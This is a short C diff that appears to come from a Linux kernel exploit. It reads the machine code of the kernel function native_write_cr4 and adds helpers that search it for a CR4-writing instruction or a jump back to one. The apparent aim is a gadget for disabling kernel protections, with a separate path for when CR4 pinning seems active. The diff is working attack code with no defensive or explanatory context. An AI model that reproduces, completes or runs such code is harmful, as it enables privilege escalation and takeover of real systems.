@@ -43,19 +43,40 @@ static struct {
 } *child;
 
 /* "jmp" back to the first write, taken where bits are missing only. */
+static int find_jump(const unsigned char *code)
+{
+	int i;
+
+	for (i = 16; i < CODE - 1; i++)
+		if (code[i] == 0xeb && code[i + 1] >= 0x80 &&
+		    i + 2 + (signed char)code[i + 1] >= 4 && i + 2 + (signed char)code[i + 1] < 16)
+			return i;
+	return 0;
+}
+
+/* Behind the first one, if the compiler made it otherwise. */
+static int find_write(const unsigned char *code)
+{
+	int i;
+
+	for (i = 0; i < CODE - 3; i++)
+		if (code[i] == 0x0f && code[i + 1] == 0x22 && (code[i + 2] & 0xf8) == 0xe0)
+			return i + 3;
+	return 0;
+}
+
 static uint64_t find_window(void)
 {
 	uint64_t at = ksymbol("native_write_cr4");
 	unsigned char code[CODE];
-	int i;
+	int window;
 
 	if (!at || kread(at, code, sizeof(code)))
 		return 0;
-	for (i = 16; i < CODE - 1; i++)
-		if (code[i] == 0xeb && code[i + 1] >= 0x80 &&
-		    i + 2 + (signed char)code[i + 1] >= 4 && i + 2 + (signed char)code[i + 1] < 16)
-			return at + i;
-	return 0;
+	/* Where there are no keys, any place in it will do. */
+	window = is_protected() ? find_jump(code) : 0;
+	window = window ?: find_write(code);
+	return window ? at + window : 0;
 }
 
 static int move_in_event(uint64_t event, uint64_t from, uint64_t to)
